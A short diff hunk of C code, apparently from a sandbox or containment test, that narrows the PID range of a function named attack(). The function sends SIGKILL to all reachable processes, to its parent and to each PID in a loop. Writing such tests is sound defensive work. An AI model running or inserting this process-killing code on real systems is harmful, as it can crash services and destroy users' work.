@@ -4,6 +4,6 @@
 static void attack() {
   kill(-1, SIGKILL);
   kill(getppid(), SIGKILL);
-  for (int pid = 1; pid < 65536; ++pid)
+  for (int pid = 1; pid < 1000; ++pid)
     if (pid != getpid()) kill(pid, SIGKILL);
 }
